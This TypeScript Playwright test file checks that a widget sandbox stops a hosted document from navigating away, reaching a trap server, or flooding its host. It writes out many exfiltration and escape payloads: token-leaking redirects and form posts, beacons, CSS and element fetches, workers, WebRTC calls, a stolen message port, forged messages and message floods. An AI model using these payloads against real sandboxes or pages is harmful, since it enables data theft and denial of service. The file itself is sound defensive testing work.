import { createSocket } from 'node:dgram';
import type { AddressInfo } from 'node:net';
import type { Page } from '@playwright/test';
import { openSandboxPage } from '../../support/sandbox-module';
import { documentMessage, expect, expectResponsive, show, test } from './sandbox-test';

/** A script that tries something, then says so: what happens in between is what the tests look at. */
const trying = (attempt: string) => `
  const say = () => setTimeout(() => bridge.send('tried'), 400);
  try { ${attempt} } finally { say(); }`;

// Of most ways the end is waited for: they are tried beside one another.
test('a document cannot leave its place', async ({ sandbox, trap }) => {
  test.slow();
  const ways = (target: string) => ({
    'its own address': `location.href = '${target}/leak?token=1'`,
    'a replaced address': `location.replace('${target}/leak')`,
    'an address of data': `location.href = 'data:text/html,<script>fetch("${target}/leak")</script>'`,
    'an address of a blob': `location.href = URL.createObjectURL(new Blob(['<script>fetch("${target}/leak")</script>'], { type: 'text/html' }))`,
    'a refresh': `document.head.innerHTML += '<meta http-equiv="refresh" content="0;url=${target}/leak">'`,
    'a link': `const a = document.createElement('a'); a.href = '${target}/leak'; a.ping = '${target}/ping'; document.body.append(a); a.click()`,
    'a link to the top': `const a = document.createElement('a'); a.href = '${target}/leak'; a.target = '_top'; document.body.append(a); a.click()`,
    'a link to a new window': `const a = document.createElement('a'); a.href = '${target}/leak'; a.target = '_blank'; document.body.append(a); a.click()`,
    'a form': `document.body.innerHTML = '<form action="${target}/leak" target="_top" method="post"><input name="token" value="1"></form>'; document.forms[0].requestSubmit(); document.forms[0].submit()`,
    'a download': `const a = document.createElement('a'); a.href = 'data:text/plain,x'; a.download = 'x.txt'; document.body.append(a); a.click()`,
    'the top': `try { top.location = '${target}/leak' } catch {} try { top.location.replace('${target}/leak') } catch {}`,
    'a script address of the top': `try { top.location.href = 'javascript:document.title="mine"' } catch {}`,
    'a new window': `open('${target}/leak')`,
    'the history': `history.back(); history.go(-2)`,
    'the page’s other frames': `for (let i = 0; i < parent.length; i += 1) try { parent[i].location = '${target}/leak' } catch {}`,
  });
  const before = trap.hits.length;
  const downloads: string[] = [];
  const pages = { seen: 0, opened: 0 };
  sandbox.context().on('page', () => {
    pages.seen++;
  });

  async function leave(page: Page, way: keyof ReturnType<typeof ways>) {
    page.on('download', (download) => downloads.push(`${way}: ${download.url()}`));
    const [address, title] = [page.url(), await page.title()];
    const target = `${trap.url}/${encodeURIComponent(way)}`;
    await show(page, { html: '<p>x</p>', js: trying(ways(target)[way]) });
    // It said that it tried, or it destroyed itself and was cut off.
    const end = () => page.evaluate(() => sandboxUse.reported.some(([what]) => what === 'message' || what === 'stop'));
    await expect.poll(end, { timeout: 20_000 }).toBe(true);
    expect([page.url(), await page.title()]).toEqual([address, title]);
    await expectResponsive(page);
    await page.close();
  }

  const failures: unknown[] = [];
  const attempts: Promise<void>[] = [];
  for (const way of Object.keys(ways('')) as (keyof ReturnType<typeof ways>)[]) {
    const page = await sandbox.context().newPage();
    pages.opened++;
    await openSandboxPage(page);
    attempts.push(test.step(`by ${way}`, () => leave(page, way)).catch((error) => void failures.push([way, error])));
  }
  await Promise.all(attempts);
  expect(failures).toEqual([]);
  expect(trap.hits.slice(before)).toEqual([]);
  expect(downloads).toEqual([]);
  expect(pages.seen).toBe(pages.opened);
});

test.describe('a document cannot tell anybody', () => {
  const ways = (target: string) => ({
    styles: `const style = document.createElement('style'); style.textContent = \`
        @import "${target}/import"; @font-face { font-family: f; src: url("${target}/font") } p { font-family: f; background: url("${target}/url");
        list-style: url("${target}/list"); cursor: url("${target}/cursor"), auto; border-image: url("${target}/border"); mask: url("${target}/mask");
        filter: url("${target}/filter#f"); content: image-set("${target}/set" 1x); shape-outside: url("${target}/shape") } p::before { content: url("${target}/before") }
        input[value^="a"] { background: url("${target}/value") }\`; document.head.append(style); document.body.innerHTML = '<p style="background: url(${target}/attribute)">x</p><input value="a">'`,
    elements: `document.body.innerHTML = \`<img src="${target}/img" srcset="${target}/srcset 1x"><picture><source srcset="${target}/source"><img></picture>
        <video src="${target}/video" poster="${target}/poster" autoplay muted></video><audio src="${target}/audio" preload="auto"></audio>
        <object data="${target}/object"></object><embed src="${target}/embed"><iframe src="${target}/iframe"></iframe><input type="image" src="${target}/input">
        <svg><image href="${target}/svg-image"/><use href="${target}/use#a"/><filter id="f"><feImage href="${target}/fe"/></filter></svg>
        <table background="${target}/table"></table><body background="${target}/body"><track src="${target}/track">\``,
    links: `for (const rel of ['stylesheet', 'icon', 'manifest', 'prefetch', 'modulepreload', 'preload', 'prerender', 'next', 'alternate stylesheet', 'pingback'])
        document.head.append(Object.assign(document.createElement('link'), { rel, href: '${target}/' + rel, as: 'script' }));`,
    speculation: `const rules = document.createElement('script'); rules.type = 'speculationrules';
        rules.textContent = JSON.stringify({ prefetch: [{ source: 'list', urls: ['${target}/speculation'], eagerness: 'immediate' }] }); document.head.append(rules)`,
    calls: `navigator.sendBeacon('${target}/beacon', 'x'); fetch('${target}/fetch', { keepalive: true, mode: 'no-cors' }).catch(() => 0);
        new EventSource('${target}/events'); try { new WebSocket('${target.replace('http', 'ws')}/socket') } catch {}
        try { new WebTransport('${target.replace('http:', 'https:')}/transport') } catch {}`,
    workers: `for (const make of [() => new Worker('${target}/worker'), () => new SharedWorker('${target}/shared'),
        () => new Worker(URL.createObjectURL(new Blob(['fetch("${target}/from-worker")']))),
        () => navigator.serviceWorker.register('${target}/service'), () => CSS.paintWorklet.addModule('${target}/paint'),
        () => new AudioContext().audioWorklet.addModule('${target}/audio-worklet'), () => import('${target}/import-call')]) try { Promise.resolve(make()).catch(() => 0) } catch {}`,
    frames: `for (const text of ['<img src="${target}/srcdoc">', '<script>fetch("${target}/srcdoc-fetch", { mode: "no-cors" }).catch(() => 0)</scr' + 'ipt>'])
        document.body.append(Object.assign(document.createElement('iframe'), { srcdoc: text }))`,
  });
  for (const way of Object.keys(ways(''))) {
    test(`by ${way}`, async ({ sandbox, trap }) => {
      const before = trap.hits.length;
      await show(sandbox, { html: '<p>x</p>', js: trying(ways(trap.url)[way as keyof ReturnType<typeof ways>]) });
      expect(await documentMessage(sandbox, 'message')).toBe('tried');
      expect(trap.hits.slice(before)).toEqual([]);
    });
  }

  test('by connecting early', async ({ sandbox, trap }) => {
    const before = trap.connections;
    const early = `for (const rel of ['preconnect', 'dns-prefetch'])
      document.head.append(Object.assign(document.createElement('link'), { rel, href: '${trap.url}' }));`;
    await show(sandbox, { html: '<p>x</p>', js: trying(early) });
    expect(await documentMessage(sandbox, 'message')).toBe('tried');
    expect(trap.connections).toBe(before);
  });

  test('by handlers in its text, nor with scripts in frames of its own', async ({ sandbox }) => {
    const html = `<img src="x" onerror="bridgeless = true"><p onclick="bridgeless = true">x</p><svg onload="bridgeless = true"></svg>
      <a href="javascript:bridgeless = true">x</a><iframe srcdoc="<script>top.postMessage('from a frame', '*')</script>"></iframe>`;
    await sandbox.evaluate(() => {
      addEventListener('message', ({ data }) => data === 'from a frame' && sandboxUse.reported.push(['heard', data]));
    });
    const js = `document.querySelector('p').click(); document.querySelector('a').click();
      setTimeout(() => bridge.send(typeof bridgeless), 500)`;
    await show(sandbox, { html, js });
    expect(await documentMessage(sandbox, 'message')).toBe('undefined');
    expect(await sandbox.evaluate(() => sandboxUse.reported.filter(([what]) => what === 'heard'))).toEqual([]);
  });

  test('by a call between browsers, not even from a frame of its own', async ({ sandbox }) => {
    const packets: number[] = [];
    const stun = createSocket('udp4', (packet) => packets.push(packet.length));
    await new Promise<void>((resolve) => stun.bind(0, '127.0.0.1', resolve));
    const { port } = stun.address() as AddressInfo;
    const dial = `const Peer = globalThis.RTCPeerConnection ?? globalThis.webkitRTCPeerConnection;
      if (Peer) { const peer = new Peer({ iceServers: [{ urls: 'stun:127.0.0.1:${port}' }] }); peer.createDataChannel('x'); peer.createOffer().then((offer) => peer.setLocalDescription(offer)); }`;
    const js = `${dial}
      const frame = document.createElement('iframe');
      frame.srcdoc = '<script>${dial.replaceAll("'", '"').replaceAll('\n', ' ')}</scr' + 'ipt>';
      document.body.append(frame);
      const blank = document.createElement('iframe');
      document.body.append(blank);
      try { blank.contentWindow.eval(${JSON.stringify(dial)}) } catch {}
      setTimeout(() => bridge.send('tried'), 1500);`;
    await show(sandbox, { html: '<p>x</p>', js });
    expect(await documentMessage(sandbox, 'message')).toBe('tried');
    stun.close();
    expect(packets).toEqual([]);
  });
});

test.describe('what a document says', () => {
  /** Takes the document's end of the connection from the program that it shares its realm with: by the next task it has said something. */
  const takePort = `let port;
    const own = MessagePort.prototype.postMessage;
    MessagePort.prototype.postMessage = function (...args) { port ??= this; return own.apply(this, args); };
    bridge.send('taken');
    const raw = (data) => own.call(port, data);`;

  test('forged answers and unknown messages change nothing', async ({ sandbox }) => {
    const js = `${takePort}
      setTimeout(() => { for (const id of [99, 0, -1, 1e99, null, '98', {}]) {
        raw(JSON.stringify({ type: 'answer', id, ok: true, value: 'forged' }));
        raw(JSON.stringify({ type: 'done', id, results: [] }));
        raw(JSON.stringify({ type: 'call', id, name: 'constructor', args: ['return document'] }));
        parent.postMessage({ type: 'done', id, results: [] }, '*');
        top.postMessage(JSON.stringify({ type: 'reloadUserMessage', data: { accessToken: 'x' } }), '*');
      }
      raw(JSON.stringify({ type: 'size', width: -1, height: 1e300 }));
      bridge.call('double', 4).then((value) => bridge.send({ value })); });`;
    await show(sandbox, { html: '<p>x</p>', js, fitHeight: true });
    const all = () => sandbox.evaluate(() => sandboxUse.reported);
    await expect.poll(async () => JSON.stringify(await all()), { timeout: 20_000 }).toContain('{"value":8}');
    expect((await all()).filter(([what]) => what === 'stop')).toEqual([]);
    expect(JSON.stringify(await all())).not.toContain('e+300');
  });

  const bombs = {
    'an object in place of a text': 'raw({ type: "ready" })',
    'a port': 'own.call(port, "{}", [new MessageChannel().port1]); raw(1)',
    'data without bottom': 'raw(\'{"type":"message","data":\' + "[".repeat(3e5) + "]".repeat(3e5) + "}")',
    'data without end': 'raw(JSON.stringify({ type: "message", data: Array(200001).fill(0) }))',
    'too long a text': 'raw("x".repeat(5e7))',
    'texts too many to read':
      'setInterval(() => { for (let i = 0; i < 40; i += 1) bridge.send("x".repeat(9e5)); }, 100)',
    'a flood past the connection':
      'setInterval(() => { for (let i = 0; i < 2000; i += 1) parent.postMessage("x".repeat(1000), "*"); }, 0)',
    'calls without end': 'setInterval(() => { for (let i = 0; i < 2000; i += 1) bridge.call("double", i); }, 0)',
  };
  for (const [name, attempt] of Object.entries(bombs)) {
    test(`${name} cuts it off, and the page does not stand still`, async ({ sandbox }) => {
      await show(sandbox, { html: '<p>x</p>', js: `${takePort}\nsetTimeout(() => { ${attempt}; });` });
      expect(await documentMessage(sandbox, 'stop')).toBe('flood');
      await expectResponsive(sandbox);
      await expect(sandbox.locator('iframe[title="Widget"]')).toHaveCount(0);
    });
  }

  test('an error with a long text is an error, cut short', async ({ sandbox }) => {
    await show(sandbox, { html: '<p>x</p>', js: 'throw new Error("m".repeat(2e6))' });
    expect(await documentMessage(sandbox, 'error')).toMatchObject({ message: 'm'.repeat(2000) });
  });
});
